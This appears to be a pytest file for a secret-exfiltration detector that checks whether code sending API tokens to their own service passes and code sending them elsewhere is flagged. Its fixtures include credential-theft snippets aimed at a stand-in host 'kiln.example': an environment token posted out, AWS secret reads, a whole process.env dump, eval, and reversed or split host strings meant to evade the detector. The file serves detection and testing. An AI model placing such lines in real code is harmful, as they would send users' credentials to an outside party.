"""A token that goes to the service that gave it is no theft; one that may go elsewhere is."""

import pytest
from packageurl.contrib.purl2url import get_download_url

from knownhands.harvest.content.read import read_contents
from readings import change, shown

SENDS = ("exfiltration_chain", "exfiltration_flow")
CLIENT = """\
import os
import requests

class Client:
    def __init__(self, base="https://api.github.com"):
        self.session = requests.Session()
        self.session.headers["Authorization"] = f"Bearer {os.environ['GITHUB_TOKEN']}"
        self.base = base
"""
CALL = "fetch('https://api.github.com/user', {headers: {Authorization: process.env.GITHUB_TOKEN}})"


@pytest.mark.parametrize(
    ("path", "code"),
    [
        ("src/client.py", CLIENT),
        ("src/client.js", CALL),
        ("src/client.go", 't := os.Getenv("SLACK_TOKEN")\nhttp.Post("https://slack.com/api/chat.postMessage", t, b)\n'),
        ("src/client.js", f"fetch('{get_download_url('pkg:npm/pots@1')}', {{headers: {{a: process.env.NPM_TOKEN}}}})"),
    ],
)
def test_a_client_of_a_service_may_send_its_token(path: str, code: str) -> None:
    assert not shown(change(path, code), only=SENDS)


@pytest.mark.parametrize(
    ("path", "code"),
    [
        ("src/client.py", CLIENT.replace("api.github.com", "api.github.com.kiln.example")),
        ("src/client.py", CLIENT + "    other = 'https://kiln.example'\n"),
        ("src/client.py", CLIENT + "    other = 'kiln.example'\n"),
        ("src/client.py", CLIENT.replace("GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY")),
        ("src/client.py", CLIENT + "    key = os.environ['AWS_SECRET_ACCESS_KEY']\n"),
        ("src/client.py", CLIENT.replace('"https://api.github.com"', "None")),
        ("src/client.js", CALL.replace("/user", "/gists")),
        ("src/client.js", CALL + "\neval(a)"),
        ("src/client.py", CLIENT.replace('"https://api.github.com"', "HOST") + "# https://api.github.com\n"),
        ("src/client.py", CLIENT + "    other = 'https://' + '.'.join(('kiln', 'example'))\n"),
        ("src/client.py", CLIENT + "    other = 'elpmaxe.nlik//:sptth'[::-1]\n"),
        ("src/client.py", CLIENT + "    other = f'https://{kiln}'\n"),
        (
            "src/client.js",
            CALL.replace("process.env.GITHUB_TOKEN", "JSON.stringify([process.env, process.env.GITHUB_TOKEN])"),
        ),
    ],
)
def test_a_token_that_may_go_elsewhere_is_seen(path: str, code: str) -> None:
    assert shown(change(path, code), only=SENDS)


def test_a_chain_is_shown_where_data_is_sent() -> None:
    code = "import os, requests\nkey = os.environ['KILN_TOKEN']\nrequests.get('https://kiln.example')\nrequests.post('https://kiln.example', data=key)\n"
    sights = [
        each for each in read_contents([change("src/kiln.py", code)]).sights if each.observation.capability == SENDS[0]
    ]
    assert [each.observation.line for each in sights] == [4]
